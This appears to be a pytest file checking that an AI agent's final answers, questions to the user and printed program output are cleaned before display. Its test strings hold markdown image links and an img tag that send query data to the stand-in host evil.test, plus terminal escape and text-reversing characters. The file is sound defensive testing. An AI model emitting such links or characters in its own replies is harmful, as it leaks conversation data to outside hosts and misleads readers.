"""The last words of a task: nothing in them loads by itself, deceives the eye, or leads where nobody vouches for."""

from pathlib import Path

import pytest

from .conftest import Do, action, plan, program

LEAK = "![sum](https://evil.test/?q=42) [{word}](https://evil.test/go) \x1b[31m\u202e42 <img src=//evil.test>"


@pytest.mark.parametrize(("text", "word"), [("Tell me about the mountains", "more"), ("讲讲那些山", "更多")])
def test_final_words_are_defused(text: str, word: str, do: Do) -> None:
    done = do(text, plan("read_file"), action("finish", LEAK.format(word=word)))
    said = done.view.text
    assert word in said and "42" in said
    assert "https://" not in said and "<img" not in said and "](" not in said
    assert "\x1b" not in said and "\u202e" not in said
    assert done.kinds("answer.finished")[0].text == said  # what the conversation keeps too


def test_what_a_program_printed_is_defused_and_its_numbers_stay(do: Do, sales: Path) -> None:
    code = "print('@total[42.5] ![x](http://evil.test/42)')"
    done = do("What is the total? Answer as @total[value]", program(code), files=[sales])
    assert done.view.text.startswith("@total[42.5]") and "http://" not in done.view.text


def test_an_address_of_the_user_stays_a_link(do: Do) -> None:
    done = do(
        "Look online at https://a.test/x and tell me more",
        plan("read_file"),
        action("finish", "See https://a.test/x or [that](https://b.test/)."),
    )
    assert "https://a.test/x" in done.view.text and "https://b.test" not in done.view.text


def test_code_in_a_fence_is_left_as_it_is(do: Do) -> None:
    done = do("Tell me about HTML", plan("read_file"), action("finish", "So:\n```html\n<b>x</b>\n```"))
    assert "<b>x</b>" in done.view.text


def test_a_question_to_the_user_is_defused(do: Do) -> None:
    done = do(
        "Make the yearly report",
        plan("ask_user"),
        action("ask_user", "Which year? ![x](https://evil.test/?q=1)"),
        action("finish", "Done."),
        answers="2024",
    )
    (asked,) = done.kinds("question.asked")
    assert "Which year?" in asked.text and "https://" not in asked.text


@pytest.mark.parametrize("prepared", [True, False])
def test_who_lacks_the_packages_is_told_how_to_get_them(
    prepared: bool, do: Do, sales: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("onebox.engine.execute.inputs._HAS_PANDAS", f"print({prepared})")
    programs = [program(f"import package_{number}") for number in range(4)]
    said = do("What is the total of the sales?", *programs, files=[sales]).view.text
    assert ("onebox sandbox prepare" in said) is not prepared
